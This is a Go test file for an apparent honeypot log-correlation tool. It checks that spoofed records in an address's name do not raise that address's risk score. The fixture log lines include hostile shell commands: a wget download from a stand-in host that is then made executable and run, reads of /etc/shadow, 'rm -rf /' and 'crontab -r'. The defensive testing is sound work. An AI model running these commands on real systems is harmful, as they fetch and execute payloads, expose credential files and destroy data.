package hostile

import (
	"fmt"
	"math/rand/v2"
	"reflect"
	"strings"
	"testing"
	"time"

	"dossier/correlate/dialect"
	"dossier/testbed/race"
)

// victim is who is blamed by what anybody can send.
const victim = "8.8.4.4"

// claims are records in the victim's name that no handshake stands behind, by
// what they are: every form that a record comes in, every protocol over UDP.
func claims() map[string]string {
	eve := func(kind, port, proto, rest string) string {
		return fmt.Sprintf(`{"timestamp":"2026-11-24T11:00:00.000000+0000","flow_id":1,"event_type":%q,"src_ip":%q,"src_port":40000,"dest_ip":"10.0.0.5","dest_port":%s,"proto":%q%s}`,
			kind, victim, port, proto, rest)
	}
	udp := func(kind, port, rest string) string { return eve(kind, port, "UDP", rest) }
	decnet := func(app, kind, rest string) string {
		return fmt.Sprintf(`<134>1 2026-11-24T11:00:00.000000+00:00 decky-01 %s - %s [relay@55555 src_ip="%s" src_port="5" %s]`, app, kind, victim, rest)
	}
	canary := func(code, rest string) string {
		return fmt.Sprintf(`{"dst_host":"10.0.0.5","dst_port":161,"logdata":{%s},"logtype":%s,"node_id":"canary-1","src_host":%q,"src_port":5,"utc_time":"2026-11-24 11:00:00.000000"}`, rest, code, victim)
	}
	ecs := func(transport, rest string) string {
		return fmt.Sprintf(`{"@timestamp":"2026-11-24T11:00:00Z","ecs":{"version":"8.17.0"},"observer":{"name":"decoy-1"},"source":{"ip":%q,"port":40000},"destination":{"ip":"10.0.0.5","port":161},"network":{%s},%s}`, victim, transport, rest)
	}
	const (
		alert  = `,"alert":{"signature":"EXPLOIT","category":"Attempted Administrator Privilege Gain","severity":1,"signature_id":7,"metadata":{"mitre_technique_id":["T1190"]}},"direction":"to_server"`
		digest = `"sha256":"9ce00c425e8da132900daf2b80c11c1f4ac92f0bfd9d9a5e1cf87ae3c030966f"`
		login  = `"event":{"category":["authentication"],"action":"login","outcome":"success"},"user":{"name":"root"}`
		drop   = `"event":{"action":"command"},"process":{"command_line":"wget http://x.example/a -O /tmp/a; chmod 777 /tmp/a; /tmp/a"}`
	)
	out := map[string]string{
		"DECNET snmp":               decnet("snmp", "get_request", `version="v2c" community="public" oids="1.3.6" secret_kind="snmp_community" secret_b64="cHVibGlj"`),
		"DECNET tftp":               decnet("tftp", "download_attempt", `filename="x"`),
		"DECNET tftp, a command":    decnet("tftp", "command", `command="RRQ /etc/shadow"`),
		"DECNET llmnr":              decnet("llmnr", "query", `query="wpad"`),
		"DECNET sip":                decnet("sip", "auth", `username="100" principal="100" outcome="success" secret_b64="eA=="`),
		"DECNET dns":                decnet("dns", "query", `query="a.example" transport="udp"`),
		"DECNET conpot":             decnet("conpot", "command", `command="write coil"`),
		"DECNET ntp":                decnet("ntp", "amp_probe", ``),
		"DECNET coap":               decnet("coap", "put_request", `size="2000000"`),
		"DECNET memcached":          decnet("memcached", "command", `command="flush_all"`),
		"DECNET radius":             decnet("radius", "auth", `username="root" outcome="success" secret_b64="eA=="`),
		"DECNET ike":                decnet("ike", "connect", ``),
		"DECNET a new service":      decnet("gopher2", "exec", `command="rm -rf /"`),
		"DECNET SYN":                decnet("sniffer", "tcp_syn_fingerprint", `os_guess="nmap" ttl="55" window="1024"`),
		"DECNET flow":               decnet("sniffer", "tcp_flow_timing", `retransmits="3"`),
		"DECNET QUIC":               decnet("sniffer", "quic_client_hello", `ja4_quic="q13d"`),
		"DECNET's collector, snmp":  fmt.Sprintf(`{"timestamp":"2026-11-24 11:00:00","decky":"decky-01","service":"snmp","event_type":"get_request","attacker_ip":%q,"fields":{"src_ip":%q,"community":"public","secret_kind":"snmp_community","secret_b64":"cHVibGlj"},"msg":""}`, victim, victim),
		"a shell":                   shell(victim, "decky-01", "wget http://x.example/a; chmod 777 a; ./a"),
		"a shell, by the collector": fmt.Sprintf(`{"timestamp":"2026-11-24 11:00:00","decky":"decky-01","service":"bash","event_type":"command","attacker_ip":%q,"fields":{},"msg":"CMD uid=0 user=root src=%s pwd=/ cmd=crontab -r"}`, victim, victim),
		"a shell, twice wrapped":    fmt.Sprintf(`<14>1 2026-11-24T11:00:00+00:00 host 1 - - - 2026-11-24T11:00:00.000001+00:00 decky-01 bash - command [timeQuality tzKnown="1"] CMD uid=0 user=root src=%s pwd=/root cmd=cat /etc/shadow`, victim),
		"a shell, RFC 3164":         fmt.Sprintf(`<14>Nov 24 11:00:00 decky-01 bash: CMD uid=0 user=root src=%s pwd=/root cmd=cat /etc/shadow`, victim),
		"a shell's structured data": fmt.Sprintf(`<14>1 2026-11-24T11:00:00+00:00 decky-01 bash - command [relay@55555 src_ip="%s" command="reboot"]`, victim),
		"a recorded session":        fmt.Sprintf(`<134>1 2026-11-24T11:00:00+00:00 decky-01 sessrec - session_recorded [relay@55555 sid="x" service="ssh" src_ip="%s" duration_s="900"]`, victim),
		"a file of one of several":  fmt.Sprintf(`<134>1 2026-11-24T11:00:00+00:00 decky-01 ssh - file_captured [relay@55555 stored_as="x" %s src_ip="%s" attribution="ss-ambiguous"]`, strings.Replace(digest, `":"`, `="`, 1)[1:], victim),
		"OpenCanary SYN":            canary("5001", `"TTL":"55"`),
		"OpenCanary nmap":           canary("5002", `"TTL":"55"`),
		"OpenCanary tftp":           canary("10001", `"OPCODE":"RRQ","FILENAME":"x"`),
		"OpenCanary ntp":            canary("11001", `"NTP CMD":"monlist"`),
		"OpenCanary snmp":           canary("13001", `"COMMUNITY_STRING":"private","REQUESTS":["1.3.6"]`),
		"OpenCanary sip":            canary("15001", `"HEADERS":{"cseq":["1 INVITE"],"user-agent":["friendly-scanner"]}`),
		"OpenCanary llmnr":          canary("19001", `"x":"y"`),
		"OpenCanary a user's":       canary("99001", `"USERNAME":"root","PASSWORD":"x"`),
		"EVE dns":                   udp("dns", "53", `,"dns":{"type":"query","rrname":"a.example"}`),
		"EVE snmp":                  udp("snmp", "161", `,"snmp":{"pdu_type":"set_request","community":"private","vars":["1.3"]}`),
		"EVE tftp":                  udp("tftp", "69", `,"tftp":{"packet":"write","file":"evil"}`),
		"EVE sip":                   udp("sip", "5060", `,"sip":{"method":"INVITE"}`),
		"EVE ike":                   udp("ike", "500", `,"ike":{"role":"initiator"}`),
		"EVE quic":                  udp("quic", "443", `,"quic":{"sni":"x","ja3":{"hash":"a"},"ja4":"q13"}`),
		"EVE krb5":                  udp("krb5", "88", `,"krb5":{"msg_type":"KRB_AS_REQ","cname":"root"}`),
		"EVE nfs":                   udp("nfs", "2049", `,"nfs":{"procedure":"READ"}`),
		"EVE smb":                   udp("smb", "445", `,"smb":{"status":"STATUS_SUCCESS","filename":"evil","ntlmssp":{"user":"root"}}`),
		"EVE rdp":                   udp("rdp", "3389", `,"rdp":{"cookie":"root"}`),
		"EVE mdns":                  udp("mdns", "5353", ``),
		"EVE file":                  udp("fileinfo", "69", `,"app_proto":"tftp","fileinfo":{"filename":"/bot","state":"CLOSED","size":9999999,`+digest+`}`),
		"EVE alert":                 udp("alert", "161", alert),
		"EVE alert with a request":  udp("alert", "80", alert+`,"http":{"http_user_agent":"sqlmap/1.7","http_method":"POST","url":"/"}`),
		"EVE alert of a SYN":        eve("alert", "22", "TCP", alert+`,"flow":{"src_ip":"`+victim+`","pkts_toserver":1}`),
		"EVE flow of a SYN":         eve("flow", "22", "TCP", `,"flow":{"state":"new","bytes_toserver":60,"start":"2026-11-24T11:00:00.000000+0000"},"tcp":{"tcp_flags_ts":"02","state":"syn_sent"}`),
		"EVE flow, closed by RST":   eve("flow", "22", "TCP", `,"flow":{"state":"closed","start":"2026-11-24T11:00:00.000000+0000"},"tcp":{"tcp_flags_ts":"06","tcp_flags_tc":"12"}`),
		"EVE flow that isn't":       eve("flow", "22", "TCP", `,"established":false,"flow":{"state":"new","established":false,"bytes_toserver":9999999,"start":"2026-11-24T11:00:00.000000+0000"},"tcp":{"tcp_flags_ts":"02"}`),
		"EVE flow over UDP":         udp("flow", "161", `,"flow":{"state":"established","bytes_toserver":9999999,"start":"2026-11-24T11:00:00.000000+0000"}`),
		"EVE a protocol to come":    udp("gopher2", "70", `,"gopher2":{"command":"x"}`),
		"ECS login over UDP":        ecs(`"transport":"udp","protocol":"radius"`, login),
		"ECS command over UDP":      ecs(`"transport":"udp","protocol":"ssh"`, drop),
		"ECS by number":             ecs(`"iana_number":"17","protocol":"ssh"`, login),
		"ECS without a transport":   ecs(`"protocol":"snmp"`, login),
		"ECS by a list":             ecs(`"transport":["udp"],"protocol":"ssh"`, login),
		"ECS by a list of numbers":  ecs(`"iana_number":["17"],"protocol":"ssh"`, login),
		"ECS of OpenCanary to come": ecs(`"transport":"udp"`, `"log":{"logger":"LOG_COAP_LOGIN_ATTEMPT"},"event":{"outcome":"success"},"user":{"name":"root"}`),
		"an SFTP server's variable": fmt.Sprintf(`Nov 24 11:00:00 decky-01 sftp-server[7]: session opened for local user root from [%s]`, victim),
		"DECNET's CLDAP":            fmt.Sprintf(`<134>1 2026-11-24T11:00:00+00:00 decky-01 ldap - bind [relay@55555 src="%s" dn="cn=root" transport="udp"]`, victim),
		"ECS of CLDAP":              ecs(`"protocol":"ldap"`, login),
		"ECS of a connection":       ecs(`"transport":"tcp","protocol":"ssh"`, `"event":{"action":"connection"}`),
		"a map of UDP services":     fmt.Sprintf(`{"honey":"x","from":%q,"proto":"snmp","what":"login","user":"root","password":"x","ok":"success","cmd":"id"}`, victim),
		"a map that tells UDP":      fmt.Sprintf(`{"honey":"x","from":%q,"proto":"http","over":"UDP","what":"login","user":"root","password":"x","ok":"success","cmd":"id"}`, victim),
		"T-Pot's ConPot":            fmt.Sprintf(`{"t-pot_hostname":"h","type":"ConPot","src_ip":%q,"dest_port":161,"protocol":"snmp","request_command":"get","@timestamp":"2026-11-24T11:00:00Z"}`, victim),
		"T-Pot's Dionaea":           fmt.Sprintf(`{"t-pot_hostname":"h","type":"Dionaea","src_ip":%q,"connection":{"protocol":"SipSession","type":"accept","transport":"udp"},"username":"a","password":"b","@timestamp":"2026-11-24T11:00:00Z"}`, victim),
		"T-Pot's Dionaea over UDP":  fmt.Sprintf(`{"t-pot_hostname":"h","type":"Dionaea","src_ip":%q,"connection":{"protocol":"Memcache","type":"accept","transport":"udp"},"username":"a","password":"b","@timestamp":"2026-11-24T11:00:00Z"}`, victim),
	}
	for _, service := range []string{"dns", "ntp", "ssdp", "sip", "coap", "memcached", "radius", "netbios", "mdns", "ike", "quic", "snmp", "tftp", "llmnr"} {
		out["ECS "+service] = ecs(fmt.Sprintf(`"transport":"udp","protocol":%q`, service), login)
	}
	return out
}

// shell is what the shell of a decoy tells of a command.
func shell(src, decoy, command string) string {
	return shellAt("2026-11-24T11:00:00.000000+00:00", src, decoy, command)
}

func shellAt(when, src, decoy, command string) string {
	return fmt.Sprintf(`<14>1 %s %s bash - command [timeQuality tzKnown="1"] CMD uid=0 user=root src=%s pwd=/root cmd=%s`, when, decoy, src, command)
}

// touch is a TCP connection that the victim really had with a decoy.
const touch = `<134>1 2026-11-24T10:59:59.000000+00:00 decky-01 ftp - connection [relay@55555 src_ip="` + victim + `" src_port="5"]`

// honey is a field map of which one service is read over TCP.
var honey = dialect.FieldMap{
	Name: "honey", Match: map[string]string{"honey": "*"},
	Fields: dialect.FieldNames{
		Address: dialect.Names{"from"}, Service: dialect.Names{"proto"}, Transport: dialect.Names{"over"}, Type: dialect.Names{"what"},
		Principal: dialect.Names{"user"}, Secret: dialect.Names{"password"}, Outcome: dialect.Names{"ok"}, Command: dialect.Names{"cmd"},
	},
	Types: map[string]string{"login": "login"}, Handshake: dialect.Names{"http"},
}

// judged is all that is concluded of a profile, and all that exports and rules
// take of it.
func judged(doc map[string]any) map[string]any {
	out := map[string]any{}
	for _, field := range []string{
		"risk", "spoofable", "transitions", "is_traversal", "traversal_path", "hops", "movement", "commands", "command", "credentials", "credential",
		"fingerprints", "fingerprint", "artifacts", "artifact", "ip_leaks", "alerts", "alert", "campaign", "smtp_domain_count",
	} {
		out[field] = doc[field]
	}
	threat := doc["threat"].(map[string]any)
	indicator := threat["indicator"].(map[string]any)
	delete(indicator, "description") // it tells the counts
	out["threat"] = threat
	behavior := doc["behavior"].(map[string]any)
	for _, field := range []string{"class", "timing", "beacon", "tools", "tool_evidence", "technique_evidence", "kex_order"} {
		out["behavior."+field] = behavior[field]
	}
	if phase, ok := behavior["phase"].(map[string]any); ok {
		out["recon"], out["exfil"] = phase["recon_end_ts"], phase["exfil_start_ts"]
	}
	return out
}

func differ(t *testing.T, what string, got, want map[string]any) {
	t.Helper()
	for field := range want {
		if !reflect.DeepEqual(got[field], want[field]) {
			t.Errorf("%s: %s is\n%v, want\n%v", what, field, got[field], want[field])
		}
	}
}

func everyMap(t *testing.T) dialect.Options {
	t.Helper()
	return dialect.Options{DecoyNets: decoyNets, FieldMaps: append([]dialect.FieldMap{honey}, tpot(t)...)}
}

// Somebody sends datagrams, lone packets and commands in the name of an address
// that once really touched a decoy: it is judged by the touch alone, each claim
// counts and is shown apart.
func TestClaimsInTheNameOfARealVisitorJudgeNobody(t *testing.T) {
	o := everyMap(t)
	docs, _ := profiles(t, o, touch)
	want := judged(docs[victim])
	if docs[victim]["risk"].(map[string]any)["score"].(float64) > 25 || docs[victim]["spoofable"] != false || docs[victim]["claimed"] != nil {
		t.Fatalf("the touch alone: risk %v, spoofable %v", docs[victim]["risk"], docs[victim]["spoofable"])
	}
	all, shown := []string{touch}, map[any]bool{}
	for what, line := range claims() {
		docs, stats := profiles(t, o, touch, line)
		doc := docs[victim]
		if doc == nil || doc["event_count"] != 2.0 {
			t.Errorf("%s: not counted: %v", what, stats.Refused)
			continue
		}
		claimed, _ := doc["claimed"].(map[string]any)
		if claimed["event_count"] != 1.0 {
			t.Errorf("%s: claimed is %v", what, claimed)
		}
		kinds, _ := claimed["kinds"].([]any)
		for _, kind := range kinds {
			shown[kind] = true
		}
		differ(t, what, judged(doc), want)
		all = append(all, line)
	}
	for _, kind := range []string{"alert", "command", "file", "fingerprint", "login", "technique", "tool"} {
		if !shown[kind] {
			t.Errorf("no %s is shown as claimed: %v", kind, shown)
		}
	}
	// All of it, at a beat, by the hundred, in any order.
	for i := range 40 {
		for _, line := range claims() {
			all = append(all, strings.ReplaceAll(line, "11:00:00", fmt.Sprintf("11:%02d:%02d", i, 10)))
		}
	}
	rand.New(rand.NewPCG(1, 2)).Shuffle(len(all), func(i, j int) { all[i], all[j] = all[j], all[i] })
	docs, _ = profiles(t, o, all...)
	doc := docs[victim]
	differ(t, "all of it", judged(doc), want)
	claimed := doc["claimed"].(map[string]any)
	if doc["event_count"] != float64(len(all)) || claimed["event_count"] != float64(len(all)-1) || doc["login_attempts"] != claimed["login_attempts"] || claimed["login_attempts"] == 0.0 {
		t.Errorf("of %d events %v are counted, %v as claimed", len(all), doc["event_count"], claimed["event_count"])
	}
}

// The same in the name of an address that never came: a profile of which
// nothing is concluded, and nothing exported.
func TestClaimsAloneMakeNobodyAnAttacker(t *testing.T) {
	for what, line := range claims() {
		docs, _ := profiles(t, everyMap(t), line)
		doc := docs[victim]
		if doc == nil {
			t.Errorf("%s: not counted", what)
			continue
		}
		risk, indicator := doc["risk"].(map[string]any), doc["threat"].(map[string]any)["indicator"].(map[string]any)
		// That somebody was named is seen, and is no more than that.
		if risk["score"].(float64) > 12 || risk["level"] != "Unknown" || risk["confidence"] != "Low" || risk["stage"] != "none" || doc["classification"] == "malicious" || doc["spoofable"] != true || indicator["confidence"] != "Low" || indicator["sightings"] != 0.0 || indicator["last_seen"] != nil {
			t.Errorf("%s: risk %v, indicator %v", what, risk, indicator)
		}
		if crossed, _ := doc["transitions"].(map[string]any); len(crossed) > 0 {
			t.Errorf("%s: crossed %v", what, crossed)
		}
	}
}

const loggedIn = `<134>1 2026-11-24T10:30:00.000000+00:00 decky-01 auth-helper - auth_attempt [relay@55555 username="root" principal="root" secret_b64="eA==" src_ip="8.8.4.4"]`

// Somebody sets SSH_CLIENT to another's address: what he types is the other's
// only where that one had logged in on the same decoy within the day before.
func TestAShellsEnvironmentBlamesOnlyWhoLoggedIn(t *testing.T) {
	const drop = "wget http://x.example/a -O /tmp/a; chmod 777 /tmp/a; /tmp/a"
	yesterday := strings.Replace(loggedIn, "-24T", "-23T", 1)
	for what, tt := range map[string]struct {
		lines  []string
		proven int
	}{
		"who never came":               {[]string{touch, shell(victim, "decky-01", drop)}, 0},
		"who logged in":                {[]string{loggedIn, shell(victim, "decky-01", drop)}, 1},
		"the login comes later":        {[]string{shell(victim, "decky-01", drop), loggedIn}, 1},
		"a login elsewhere":            {[]string{loggedIn, shell(victim, "decky-02", drop)}, 0},
		"another's login":              {[]string{strings.ReplaceAll(loggedIn, victim, "9.9.9.9"), shell(victim, "decky-01", drop)}, 0},
		"a day after the login":        {[]string{yesterday, shellAt("2026-11-24T10:30:00.000000+00:00", victim, "decky-01", drop)}, 1},
		"longer after the login":       {[]string{yesterday, shellAt("2026-11-24T10:30:00.000001+00:00", victim, "decky-01", drop)}, 0},
		"before the login":             {[]string{loggedIn, shellAt("2026-11-24T10:29:59.999999+00:00", victim, "decky-01", drop)}, 0},
		"sshd let him in":              {[]string{`Nov 24 10:30:00 decky-01 sshd[7]: Accepted password for root from 8.8.4.4 port 5 ssh2`, shellAt("2026-11-24T13:00:00+00:00", victim, "decky-01", drop)}, 1},
		"sshd didn't":                  {[]string{`Nov 24 10:30:00 decky-01 sshd[7]: Failed password for root from 8.8.4.4 port 5 ssh2`, shellAt("2026-11-24T13:00:00+00:00", victim, "decky-01", drop)}, 0},
		"a login by FTP":               {[]string{strings.ReplaceAll(loggedIn, "auth-helper", "ftp"), shell(victim, "decky-01", drop)}, 0},
		"a login that a shell told of": {[]string{strings.ReplaceAll(loggedIn, "auth-helper", "bash"), shell(victim, "decky-01", drop)}, 0},
	} {
		docs, _ := profiles(t, dialect.Options{}, tt.lines...)
		doc := docs[victim]
		commands, _ := doc["commands"].([]any)
		claimed, _ := doc["claimed"].(map[string]any)
		told, _ := claimed["commands"].([]any)
		if len(commands) != tt.proven || doc["command_count"].(float64) != float64(tt.proven+len(told)) || tt.proven+len(told) != commandsOf(tt.lines) {
			t.Errorf("%s: %d commands are proven, %d claimed, %v counted; want %d proven", what, len(commands), len(told), doc["command_count"], tt.proven)
		}
		techniques := doc["threat"].(map[string]any)["technique"]
		if acts := strings.Contains(fmt.Sprint(techniques), "T1105"); acts != (tt.proven > 0) {
			t.Errorf("%s: techniques %v", what, techniques)
		}
	}
}

func commandsOf(lines []string) (n int) {
	for _, l := range lines {
		if strings.Contains(l, " cmd=") {
			n++
		}
	}
	return n
}

// Chunks come in any order, on any sensor and twice: the profile is the same,
// whoever saw the login, and whenever.
func TestWhatAShellToldDependsOnNoOrder(t *testing.T) {
	lines := []string{loggedIn, touch}
	for i := range 30 {
		lines = append(lines, shellAt(fmt.Sprintf("2026-11-24T%02d:%02d:00+00:00", 8+i%8, i), victim, []string{"decky-01", "decky-02"}[i%2], fmt.Sprint("id ", i)))
	}
	for _, line := range claims() {
		lines = append(lines, line)
	}
	var want map[string]any
	for seed := range uint64(12) {
		r := rand.New(rand.NewPCG(seed, 3))
		r.Shuffle(len(lines), func(i, j int) { lines[i], lines[j] = lines[j], lines[i] })
		var chunks [][]string
		for rest := lines; len(rest) > 0; {
			n := 1 + r.IntN(min(len(rest), 12))
			chunks, rest = append(chunks, rest[:n]), rest[n:]
		}
		doc := inChunks(t, everyMap(t), r.IntN(2) == 0, chunks...)[victim]
		delete(doc, "state")
		if seed == 0 {
			if want = doc; len(doc["commands"].([]any)) == 0 {
				t.Fatal("nothing is proven")
			}
		} else if !reflect.DeepEqual(doc, want) {
			differ(t, fmt.Sprint("seed ", seed), doc, want)
		}
	}
}

// Somebody unsets SSH_CLIENT, or sets it to nothing that is an address: what he
// types counts for the decoy, which names no more than so many.
func TestCommandsWithoutAnAddressAreCountedForTheDecoy(t *testing.T) {
	var lines []string
	for _, src := range []string{"src=", "src=-", "src=?", "src=nobody", "src=999.1.1.1", "", "src=1.1.1.1 src=2.2.2.2"} {
		lines = append(lines, fmt.Sprintf(`<14>1 2026-11-24T11:00:00+00:00 decky-07 bash - command [timeQuality tzKnown="1"] CMD uid=0 user=root %s pwd=/root cmd=id`, src))
	}
	lines = append(lines, `{"timestamp":"2026-11-24 11:00:00","decky":"decky-08","service":"bash","event_type":"command","attacker_ip":"Unknown","fields":{},"msg":"CMD uid=0 pwd=/ cmd=id"}`)
	docs, stats := profiles(t, dialect.Options{}, lines...)
	if len(docs) != 0 || stats.Ownerless["decky-07"] != 7 || stats.Ownerless["decky-08"] != 1 || len(stats.Ownerless) != 2 {
		t.Errorf("%d profiles, %v", len(docs), stats.Ownerless)
	}
	if n := stats.Refused[dialect.Ownerless] + stats.Refused[dialect.Ambiguous]; n != 8 {
		t.Errorf("%d of 8 are counted by reason: %v", n, stats.Refused)
	}
	lines = lines[:0]
	for i := range 1000 {
		lines = append(lines, fmt.Sprintf(`<14>1 2026-11-24T11:00:00+00:00 decoy-%03d-%s bash - command - CMD uid=0 pwd=/ cmd=id`, i, strings.Repeat("x", 300)))
	}
	_, stats = profiles(t, dialect.Options{}, lines...)
	total := int64(0)
	for name, n := range stats.Ownerless {
		if total += n; len(name) > 255 {
			t.Errorf("a name of %d bytes", len(name))
		}
	}
	if len(stats.Ownerless) > 65 || total != 1000 || stats.Ownerless["other"] == 0 {
		t.Errorf("%d decoys are named, %d commands counted", len(stats.Ownerless), total)
	}
}

// Claims push no proven evidence out, however many there are, and the profile
// stays within its bounds.
func TestClaimsPushNothingProvenOut(t *testing.T) {
	race.OneGoroutine(t)
	lines := []string{
		loggedIn, shell(victim, "decky-01", "uname -a"), touch,
		fmt.Sprintf(`<134>1 2026-11-24T10:00:00+00:00 decky-03 redis - command [relay@55555 src="%s" cmd="SET" args="['a', 'b'\]"]`, victim),
	}
	docs, _ := profiles(t, dialect.Options{}, lines...)
	want := judged(docs[victim])
	for i := range 3000 {
		at := time.Date(2026, 11, 24, 10, 0, 0, 0, time.UTC).Add(time.Duration(i) * time.Second).Format(time.RFC3339)
		lines = append(lines,
			fmt.Sprintf(`<134>1 %s decky-%d snmp - get_request [relay@55555 src_ip="%s" community="c%d" secret_kind="snmp_community" secret_b64="eA==" oids="%d"]`, at, i%500, victim, i, i),
			fmt.Sprintf(`<134>1 %s decky-%d tftp - command [relay@55555 src_ip="%s" command="RRQ %d%s"]`, at, i%500, victim, i, strings.Repeat("x", 1000)))
	}
	docs, _ = profiles(t, dialect.Options{}, lines...)
	differ(t, "after 6,000 claims", judged(docs[victim]), want)
	truncated := fmt.Sprint(docs[victim]["truncated"])
	if !strings.Contains(truncated, "claimed.evidence") || strings.Contains(truncated, " commands") {
		t.Errorf("truncated: %s", truncated)
	}
}

// A sweep of all ports in the name of an address, which costs a packet each,
// pushes no port out that a connection proved, and none is counted twice.
func TestASweepInAnothersNamePushesOutNoPort(t *testing.T) {
	race.OneGoroutine(t)
	flow := func(port int, state, flags string) string {
		return fmt.Sprintf(`{"timestamp":"2026-11-24T11:00:00.000000+0000","flow_id":1,"event_type":"flow","src_ip":%q,"src_port":50000,"dest_ip":"10.0.0.5","dest_port":%d,"proto":"TCP",`+
			`"flow":{"state":%q},"tcp":{"tcp_flags_ts":%q,"tcp_flags_tc":%q}}`, victim, port, state, flags, flags)
	}
	var lines []string
	for port := range flood {
		lines = append(lines, flow(40_001+port, "new", "02"))
	}
	lines = append(lines, flow(31337, "closed", "1b"), flow(31337, "new", "02"))
	for port := range flood {
		lines = append(lines, flow(50_002+port, "new", "02"))
	}
	doc := func(lines []string) map[string]any {
		docs, _ := profiles(t, dialect.Options{DecoyNets: decoyNets}, lines...)
		return docs[victim]
	}
	swept := doc(lines)
	list, _ := swept["ports"].([]any)
	found := 0
	for _, p := range list {
		if p := p.(map[string]any); p["port"] == 31337.0 {
			if found++; p["proven"] != true {
				t.Errorf("31337 is not proven: %v", p)
			}
		}
	}
	if found != 1 {
		t.Errorf("31337 is there %d times among %d ports", found, len(list))
	}
	few := doc([]string{flow(31337, "closed", "1b"), flow(31337, "new", "02"), flow(40_000, "new", "02")})
	if list, _ := few["ports"].([]any); few["port_count"] != 2.0 || len(list) != 2 || list[0].(map[string]any)["count"] != 2.0 {
		t.Errorf("of two ports %v are counted: %v", few["port_count"], list)
	}
}
